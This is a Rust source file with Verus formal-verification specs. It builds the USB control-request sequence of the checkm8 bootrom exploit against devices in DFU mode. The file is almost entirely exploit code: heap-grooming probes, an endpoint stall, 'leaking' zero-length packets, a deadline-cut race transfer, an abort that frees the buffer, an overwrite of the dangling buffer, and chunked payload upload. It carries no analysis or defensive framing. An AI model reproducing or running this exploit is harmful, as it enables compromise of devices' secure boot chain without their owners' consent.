use vstd::prelude::*;
use vstd::string::StringSliceAdditionalSpecFns;
use crate::transfer::{
    control_request_no_data, control_request_with_data, data_view, probe_view, ControlRequest,
    RequestView, USB_TIMEOUT,
};

verus! {

pub const DFU_DNLOAD: u8 = 1;
pub const DFU_UPLOAD: u8 = 2;
pub const DFU_GETSTATUS: u8 = 3;
pub const DFU_CLRSTATUS: u8 = 4;
pub const DFU_GETSTATE: u8 = 5;
pub const DFU_ABORT: u8 = 6;
pub const DFU_FILE_SUFFIX_LENGTH: u16 = 16;
pub const EP0_MAX_PACKET_SIZE: u16 = 0x40;
pub const DFU_MAX_TRANSFER_SIZE: u16 = 0x800;
pub const DFU_STATUS_OK: u8 = 0;
pub const DFU_STATE_MANIFEST_SYNC: u8 = 6;
pub const DFU_STATE_MANIFEST: u8 = 7;
pub const DFU_STATE_MANIFEST_WAIT_RESET: u8 = 8;

/// Request type and code of a diagnostic console command.
pub const CONSOLE_REQUEST_TYPE: u8 = 0x40;
pub const CONSOLE_REQUEST: u8 = 1;

/// Longest console command, in bytes, without its terminating zero.
pub const MAX_COMMAND_LENGTH: usize = 0x100;

/// Data length of the probe that stalls the control endpoint: more than one
/// packet, so the device holds the transaction open.
pub const STALL_LENGTH: u16 = 0x80;

/// Data lengths of the grooming probe pair.
pub const GROOM_PROBE_LENGTH: u16 = 0xC0;
pub const GROOM_FOLLOWUP_LENGTH: u16 = 0x40;

/// The grooming follow-up probe's timeout.
pub const GROOM_FOLLOWUP_TIMEOUT: u32 = 1;

/// Lengths of the zero-length-packet requests: the normal one fills the
/// hole, the leaking one leaves the dangling allocation.
pub const NORMAL_ZLP_LENGTH: u16 = 0xC1;
pub const LEAKING_ZLP_LENGTH: u16 = 0x40;

/// The long data-phase transfer that is interrupted by its deadline.
pub const RACE_TRANSFER_LENGTH: u16 = 2048;

/// The padding overwrite that lands bytes in the reallocated region.
pub const PADDING_LENGTH: u16 = 0x5c0 - 10;

/// Request type and code of the abort that frees the transfer buffer.
pub const ABORT_REQUEST_TYPE: u8 = 0x21;
pub const ABORT_REQUEST: u8 = 4;

/// Why a console command was not sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum CommandError {
    Empty,
    TooLong,
}

/// A console command as sent: its bytes and a terminating zero.
pub open spec fn console_view(command: Seq<u8>) -> RequestView {
    data_view(CONSOLE_REQUEST_TYPE, CONSOLE_REQUEST, 0, 0, command.push(0), USB_TIMEOUT)
}

/// Builds the transfer of a console command. Commands of 1 to 0x100 bytes are
/// accepted; the empty command and longer ones are refused.
pub fn send_command_to_recovery(command: &str) -> (r: Result<ControlRequest, CommandError>)
    ensures
        command.spec_bytes().len() == 0 <==> r == Err::<ControlRequest, CommandError>(
            CommandError::Empty,
        ),
        command.spec_bytes().len() > MAX_COMMAND_LENGTH <==> r == Err::<
            ControlRequest,
            CommandError,
        >(CommandError::TooLong),
        r matches Ok(req) ==> req@ == console_view(command.spec_bytes()),
{
    let bytes = command.as_bytes();
    let n = bytes.len();
    if n == 0 {
        return Err(CommandError::Empty);
    }
    if n > MAX_COMMAND_LENGTH {
        return Err(CommandError::TooLong);
    }
    let mut data: Vec<u8> = Vec::new();
    let mut i: usize = 0;
    while i < n
        invariant
            n == bytes@.len(),
            bytes@ == command.spec_bytes(),
            i <= n,
            data@ == bytes@.subrange(0, i as int),
        decreases n - i,
    {
        data.push(bytes[i]);
        i = i + 1;
        assert(data@ =~= bytes@.subrange(0, i as int));
    }
    data.push(0);
    assert(data@ =~= command.spec_bytes().push(0));
    Ok(control_request_with_data(CONSOLE_REQUEST_TYPE, CONSOLE_REQUEST, 0, 0, data, USB_TIMEOUT))
}

/// The three downloads that put the loader into a fresh transfer: a file
/// suffix, an empty one that ends it, and one packet that starts a new one.
pub open spec fn reset_view(step: int) -> RequestView {
    probe_view(
        0x21,
        DFU_DNLOAD,
        0,
        0,
        if step == 0 {
            DFU_FILE_SUFFIX_LENGTH
        } else if step == 1 {
            0
        } else {
            EP0_MAX_PACKET_SIZE
        },
        USB_TIMEOUT,
    )
}

/// Number of requests of the reset sequence.
pub const RESET_STEPS: usize = 3;

/// The reset sequence, in the order in which it is sent.
pub fn reset_device() -> (r: Vec<ControlRequest>)
    ensures
        r@.len() == RESET_STEPS,
        forall|k: int| 0 <= k < RESET_STEPS ==> (#[trigger] r@[k])@ == reset_view(k),
{
    let mut r: Vec<ControlRequest> = Vec::new();
    let mut k: usize = 0;
    while k < RESET_STEPS
        invariant
            k <= RESET_STEPS,
            r@.len() == k,
            forall|j: int| 0 <= j < k ==> (#[trigger] r@[j])@ == reset_view(j),
        decreases RESET_STEPS - k,
    {
        r.push(reset_request(k));
        k = k + 1;
    }
    r
}

/// One request of the reset sequence.
pub fn reset_request(step: usize) -> (r: ControlRequest)
    requires
        step < RESET_STEPS,
    ensures
        r@ == reset_view(step as int),
{
    let length: u16 = if step == 0 {
        DFU_FILE_SUFFIX_LENGTH
    } else if step == 1 {
        0
    } else {
        EP0_MAX_PACKET_SIZE
    };
    control_request_no_data(0x21, DFU_DNLOAD, 0, 0, length, USB_TIMEOUT)
}

/// A status download of one file suffix's length.
pub open spec fn check_status_view() -> RequestView {
    probe_view(0x21, DFU_DNLOAD, 0, 0, DFU_FILE_SUFFIX_LENGTH, USB_TIMEOUT)
}

/// Builds the status download of one file suffix's length.
pub fn dfu_check_status() -> (r: ControlRequest)
    ensures
        r@ == check_status_view(),
{
    control_request_no_data(0x21, DFU_DNLOAD, 0, 0, DFU_FILE_SUFFIX_LENGTH, USB_TIMEOUT)
}

/// The status probe that stalls the control endpoint.
pub open spec fn stall_view() -> RequestView {
    probe_view(0x2, DFU_GETSTATUS, 0, 0x80, STALL_LENGTH, USB_TIMEOUT)
}

/// Builds the status probe that stalls the control endpoint.
pub fn stall_usb_request() -> (r: ControlRequest)
    ensures
        r@ == stall_view(),
{
    control_request_no_data(0x2, DFU_GETSTATUS, 0, 0x80, STALL_LENGTH, USB_TIMEOUT)
}

/// The first probe of a grooming pass, with the pass's timeout.
pub open spec fn groom_probe_view(timeout: u32) -> RequestView {
    probe_view(0x80, DFU_ABORT, 0x304, 0xA, GROOM_PROBE_LENGTH, timeout)
}

/// Builds the first probe of a grooming pass.
pub fn groom_probe(timeout: u32) -> (r: ControlRequest)
    ensures
        r@ == groom_probe_view(timeout),
{
    control_request_no_data(0x80, DFU_ABORT, 0x304, 0xA, GROOM_PROBE_LENGTH, timeout)
}

/// The second probe of a grooming pass.
pub open spec fn groom_followup_view() -> RequestView {
    probe_view(0x80, DFU_ABORT, 0x304, 0xA, GROOM_FOLLOWUP_LENGTH, GROOM_FOLLOWUP_TIMEOUT)
}

/// Builds the second probe of a grooming pass.
pub fn groom_followup() -> (r: ControlRequest)
    ensures
        r@ == groom_followup_view(),
{
    control_request_no_data(
        0x80,
        DFU_ABORT,
        0x304,
        0xA,
        GROOM_FOLLOWUP_LENGTH,
        GROOM_FOLLOWUP_TIMEOUT,
    )
}

/// A zero-length-packet request of the given length.
pub open spec fn zlp_view(length: u16) -> RequestView {
    probe_view(0x80, DFU_ABORT, 0x304, 0x40A, length, USB_TIMEOUT)
}

/// Builds the request whose packet fills the hole.
pub fn checkm8_send_normal_zlp() -> (r: ControlRequest)
    ensures
        r@ == zlp_view(NORMAL_ZLP_LENGTH),
{
    control_request_no_data(0x80, DFU_ABORT, 0x304, 0x40A, NORMAL_ZLP_LENGTH, USB_TIMEOUT)
}

/// Builds the request whose packet leaks at the end of the hole.
pub fn checkm8_send_leaking_zlp() -> (r: ControlRequest)
    ensures
        r@ == zlp_view(LEAKING_ZLP_LENGTH),
{
    control_request_no_data(0x80, DFU_ABORT, 0x304, 0x40A, LEAKING_ZLP_LENGTH, USB_TIMEOUT)
}

/// The long download that is meant to be cut short by its deadline.
pub open spec fn race_transfer_view(timeout: u32) -> RequestView {
    probe_view(0x21, DFU_DNLOAD, 0, 0, RACE_TRANSFER_LENGTH, timeout)
}

/// Builds the long download of one race pass.
pub fn race_transfer(timeout: u32) -> (r: ControlRequest)
    ensures
        r@ == race_transfer_view(timeout),
{
    control_request_no_data(0x21, DFU_DNLOAD, 0, 0, RACE_TRANSFER_LENGTH, timeout)
}

/// The padding overwrite of one race pass.
pub open spec fn padding_view() -> RequestView {
    probe_view(0, 0, 0, 0, PADDING_LENGTH, USB_TIMEOUT)
}

/// Builds the padding overwrite.
pub fn overwrite_padding() -> (r: ControlRequest)
    ensures
        r@ == padding_view(),
{
    control_request_no_data(0, 0, 0, 0, PADDING_LENGTH, USB_TIMEOUT)
}

/// The abort that frees the interrupted transfer's buffer; it waits without
/// a deadline.
pub open spec fn abort_view() -> RequestView {
    probe_view(ABORT_REQUEST_TYPE, ABORT_REQUEST, 0, 0, 0, 0)
}

/// Builds the abort.
pub fn send_abort() -> (r: ControlRequest)
    ensures
        r@ == abort_view(),
{
    control_request_no_data(ABORT_REQUEST_TYPE, ABORT_REQUEST, 0, 0, 0, 0)
}

/// The transfer that writes `bytes` over the dangling buffer.
pub open spec fn overwrite_view(bytes: Seq<u8>) -> RequestView {
    data_view(0, 0, 0, 0, bytes, USB_TIMEOUT)
}

/// The download that carries the payload bytes from `offset` on, at most one
/// transfer's worth.
pub open spec fn payload_chunk_view(payload: Seq<u8>, offset: int) -> RequestView {
    data_view(
        0x21,
        DFU_DNLOAD,
        0,
        0,
        payload.subrange(offset, chunk_end(payload.len() as int, offset)),
        USB_TIMEOUT,
    )
}

/// Where the chunk that starts at `offset` ends.
pub open spec fn chunk_end(len: int, offset: int) -> int {
    if offset + DFU_MAX_TRANSFER_SIZE < len {
        offset + DFU_MAX_TRANSFER_SIZE
    } else {
        len
    }
}

/// Copies `src[from..to]`.
fn copy_range(src: &Vec<u8>, from: usize, to: usize) -> (r: Vec<u8>)
    requires
        from <= to <= src@.len(),
    ensures
        r@ == src@.subrange(from as int, to as int),
{
    let mut r: Vec<u8> = Vec::new();
    let mut i: usize = from;
    while i < to
        invariant
            from <= i <= to,
            to <= src@.len(),
            r@ == src@.subrange(from as int, i as int),
        decreases to - i,
    {
        r.push(src[i]);
        i = i + 1;
        assert(r@ =~= src@.subrange(from as int, i as int));
    }
    r
}

/// Builds the transfer that writes `bytes` over the dangling buffer.
pub fn overwrite(bytes: &Vec<u8>) -> (r: ControlRequest)
    requires
        bytes@.len() <= DFU_MAX_TRANSFER_SIZE,
    ensures
        r@ == overwrite_view(bytes@),
{
    let data = copy_range(bytes, 0, bytes.len());
    assert(data@ =~= bytes@);
    control_request_with_data(0, 0, 0, 0, data, USB_TIMEOUT)
}

/// Builds the payload download that starts at `offset`.
pub fn send_payload(payload: &Vec<u8>, offset: usize) -> (r: ControlRequest)
    requires
        offset < payload@.len(),
    ensures
        r@ == payload_chunk_view(payload@, offset as int),
{
    let end: usize = if payload.len() - offset > DFU_MAX_TRANSFER_SIZE as usize {
        offset + DFU_MAX_TRANSFER_SIZE as usize
    } else {
        payload.len()
    };
    let data = copy_range(payload, offset, end);
    control_request_with_data(0x21, DFU_DNLOAD, 0, 0, data, USB_TIMEOUT)
}

} // verus!
